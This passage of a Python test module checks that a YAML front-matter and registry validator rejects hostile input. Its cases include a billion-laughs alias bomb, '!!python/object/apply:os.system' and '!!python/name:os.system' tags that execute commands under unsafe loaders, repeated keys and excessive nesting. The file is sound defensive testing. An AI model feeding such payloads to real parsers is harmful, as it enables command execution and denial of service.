    "laughter": (LAUGHS, "8 yaml_anchor|9 empty|9 empty|9 yaml_alias|9 yaml_alias|10 empty|10 yaml_alias"),
    "a Python object": (["summary: !!python/object/apply:os.system [id]"], "8 yaml_tag|8 not_text"),
    "a tag of one's own": (["summary: !ENV [HOME]"], "8 yaml_tag|8 not_text"),
    "a binary value": (["summary: !!binary aGE="], "8 yaml_tag"),
    "a tag in a list": (["copies:", "  - !!str Lưu"], "9 yaml_tag"),
    "a key twice": (["summary: Một", "summary: Hai"], "9 yaml_repeated_key"),
    "a key twice in other signs": (["summary: Một", '"summary": Hai'], "9 yaml_repeated_key"),
    "a key twice with an escape": (["summary: Một", '"s\\u0075mmary": Hai'], "9 yaml_repeated_key"),
    "a status twice": (["status: draft", "status: published"], "9 yaml_repeated_key"),
    "a merge": (["<<: {status: draft}"], "8 unknown_key"),
    "a directive's document": (["--- # hai", "summary: Hai"], "8 yaml_two_documents"),
    "lists in each other": (["copies: " + "[ " * 45 + "Lưu" + " ]" * 45], "8 yaml_too_deep"),
    "items in each other": (["copies:", "  " + "- " * 45 + "Lưu"], "9 yaml_too_deep"),
    "keys in each other": (["copies:", *("  " * n + f"  k{n}:" for n in range(45))], "20 yaml_too_deep"),
}


def of_yaml() -> Iterator[Hostile]:
    """Write what YAML can do and a front matter must not."""
    for name, (lines, expected) in OF_YAML.items():
        yield attack(f"{name} in YAML", Case(add=lines), expected.split("|"))
    for name, lines, code in (
        ("an anchor", "name: &a Mới", "yaml_anchor"),
        ("an alias", "name: *a", "yaml_alias"),
        ("a tag", "name: !!python/name:os.system Mới", "yaml_tag"),
        ("a key twice", "name: Mới\n  name: Cũ", "yaml_repeated_key"),
    ):
        text = registries()["linh-vuc.yml"] + f"- id: moi\n  {lines}\n"
        line = len(text.splitlines())
        files: dict[str, str | None] = {"danh-muc/linh-vuc.yml": text}
        yield attack(f"{name} in a registry", Case(files=files), [f"danh-muc/linh-vuc.yml:{line} {code}"])
